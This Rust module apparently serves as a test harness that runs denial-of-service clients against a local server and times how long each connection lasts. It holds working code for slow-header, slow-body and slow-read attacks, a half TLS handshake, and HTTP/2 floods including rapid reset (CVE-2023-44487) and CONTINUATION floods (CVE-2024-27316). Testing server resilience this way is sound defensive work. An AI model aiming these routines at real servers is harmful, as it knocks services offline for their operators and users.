//! Clients that mean harm: each takes as much of a connection, for as long, as the server lets it.

use std::{
    io,
    net::{IpAddr, Ipv4Addr, SocketAddr},
    sync::Arc,
    time::{Duration, Instant},
};

use rustls::{ClientConfig, pki_types::ServerName};
use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _, sink},
    net::{TcpSocket, TcpStream},
    time::sleep,
};
use tokio_rustls::{TlsConnector, client::TlsStream};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `GET https://a/`, all but the last from HPACK's static table.
const GET: &[u8] = b"\x82\x84\x87\x41\x01a";

/// What a client does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// One byte of a head each second.
    SlowHead,
    /// One byte of a body each second.
    SlowBody,
    /// Requests without an end, and no answer is read.
    SlowRead,
    /// One request, and then nothing.
    Idle,
    /// A part of the TLS handshake, and then a byte each second.
    HalfHandshake,
    /// HTTP/2: one byte of a head each second.
    SlowHead2,
    /// HTTP/2: a connection without a request.
    Silent2,
    /// HTTP/2: one request, and then nothing.
    Idle2,
    /// HTTP/2: answers for which there is never room.
    NoWindow,
    /// HTTP/2: streams that end as soon as they begin (CVE-2023-44487).
    RapidReset,
    /// HTTP/2: a head without an end (CVE-2024-27316).
    Continuation,
    /// HTTP/2: a million streams at once.
    Streams,
}

impl Attack {
    /// Plain HTTP/1.1 needs no TLS.
    pub const PLAIN: [Self; 3] = [Self::SlowHead, Self::SlowBody, Self::SlowRead];
    pub const TLS: [Self; 7] = [
        Self::HalfHandshake,
        Self::SlowHead2,
        Self::Silent2,
        Self::NoWindow,
        Self::RapidReset,
        Self::Continuation,
        Self::Streams,
    ];

    /// Attacks once, from its own address; gives the time until the server has ended it.
    pub async fn run(self, target: &Target, source: u8) -> Duration {
        let begin = Instant::now();
        let tcp = target.open(source).await;
        match self {
            Self::SlowHead => drip(tcp, b"GET / HTTP/1.1\r\nhost: a\r\nx: ").await,
            Self::SlowBody => drip(tcp, SLOW_BODY).await,
            Self::SlowRead => write_only(tcp).await,
            Self::Idle => hold(tcp, b"GET / HTTP/1.1\r\nhost: a\r\n\r\n").await,
            // A handshake record of 512 bytes that begins with the type of a ClientHello.
            Self::HalfHandshake => drip(tcp, &[22, 3, 1, 2, 0, 1]).await,
            _ => {
                // A server that is busy with other handshakes may give up this one.
                if let Ok(tls) = target.secure(tcp).await {
                    self.run2(tls).await;
                }
            }
        }
        begin.elapsed()
    }

    async fn run2(self, tls: TlsStream<TcpStream>) {
        let start = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        let get = |stream, flags| frame(HEADERS, flags, stream, GET);
        // Odd numbers are the client's, up to 2^31.
        let streams = (1_u32..).step_by(2).take(1_000_000);
        match self {
            Self::SlowHead2 => drip(tls, &[&start[..], &[0, 1, 0, HEADERS, 0, 0, 0, 0, 1]].concat()).await,
            Self::Silent2 => hold(tls, &start).await,
            Self::Idle2 => hold(tls, &[start, get(1, END_STREAM | END_HEADERS)].concat()).await,
            Self::NoWindow => {
                let no_window = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
                let all: Vec<_> = streams.take(10).flat_map(|s| get(s, END_STREAM | END_HEADERS)).collect();
                hold(tls, &[PREFACE, &no_window, &all].concat()).await;
            }
            Self::RapidReset => {
                let pair = |s| [get(s, END_STREAM | END_HEADERS), frame(RST_STREAM, 0, s, &[0, 0, 0, 8])];
                flood(tls, start, streams.map(|s| pair(s).concat())).await;
            }
            Self::Continuation => {
                let first = [start, get(1, END_STREAM)].concat();
                flood(tls, first, streams.map(|_| frame(CONTINUATION, 0, 1, b"\0\x01x\x01y"))).await;
            }
            // None of them ends, so that none is answered and gone.
            _ => flood(tls, start, streams.map(slow_post)).await,
        }
    }
}

const SLOW_BODY: &[u8] =
    b"POST /login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 99999\r\n\r\n";

/// `POST https://a/login` with JSON to come.
fn slow_post(stream: u32) -> Vec<u8> {
    let head = b"\x83\x87\x41\x01a\x44\x06/login\x5f\x10application/json";
    [frame(HEADERS, END_HEADERS, stream, head), frame(DATA, 0, stream, b"{")].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&[a, b, c, kind, flags][..], &stream.to_be_bytes(), payload].concat()
}

/// Who is attacked, and how a client gets there.
pub struct Target {
    pub address: SocketAddr,
    pub tls: Option<Arc<ClientConfig>>,
}

impl Target {
    async fn open(&self, source: u8) -> TcpStream {
        let socket = TcpSocket::new_v4().unwrap();
        // Of an answer only that much lies in the kernel of a client that reads nothing.
        socket.set_recv_buffer_size(4096).unwrap();
        // Clients lie in the same kernel as the server, which no attacker's do.
        socket.set_send_buffer_size(4096).unwrap();
        let source = IpAddr::V4(Ipv4Addr::new(127, 0, 1, source));
        socket.bind(SocketAddr::new(source, 0)).unwrap();
        socket.connect(self.address).await.unwrap()
    }

    async fn secure(&self, tcp: TcpStream) -> io::Result<TlsStream<TcpStream>> {
        let name = ServerName::try_from("studio.example").unwrap();
        TlsConnector::from(self.tls.clone().unwrap()).connect(name, tcp).await
    }
}

/// One byte each second until the server ends it.
async fn drip(stream: impl AsyncRead + AsyncWrite, start: &[u8]) {
    let (read, mut write) = tokio::io::split(stream);
    let send = async {
        let mut sent = write.write_all(start).await;
        while sent.is_ok() && write.flush().await.is_ok() {
            sleep(Duration::from_secs(1)).await;
            sent = write.write_all(b"x").await;
        }
    };
    tokio::select! { () = send => {}, () = until_the_end(read) => {} }
}

async fn hold(mut stream: impl AsyncRead + AsyncWrite + Unpin, start: &[u8]) {
    // The server may have ended it already, where this client was slow before.
    if stream.write_all(start).await.is_ok() && stream.flush().await.is_ok() {
        until_the_end(stream).await;
    }
}

async fn flood(
    stream: impl AsyncRead + AsyncWrite,
    start: Vec<u8>,
    mut frames: impl Iterator<Item = Vec<u8>>,
) {
    let (read, mut write) = tokio::io::split(stream);
    let send = async {
        let mut sent = write.write_all(&start).await;
        while sent.is_ok() {
            let some: Vec<_> = frames.by_ref().take(500).flatten().collect();
            assert!(!some.is_empty(), "the server took all of it");
            sent = write.write_all(&some).await;
        }
    };
    tokio::select! { () = send => {}, () = until_the_end(read) => {} }
}

/// Only a failed write tells the end: nothing is read.
async fn write_only(mut stream: TcpStream) {
    let requests = b"GET /openapi.json HTTP/1.1\r\nhost: a\r\n\r\n".repeat(100);
    while stream.write_all(&requests).await.is_ok() {}
}

async fn until_the_end(mut stream: impl AsyncRead + Unpin) {
    // A reset is an end as well.
    let _ = tokio::io::copy(&mut stream, &mut sink()).await;
    let _ = stream.read(&mut [0]).await;
}
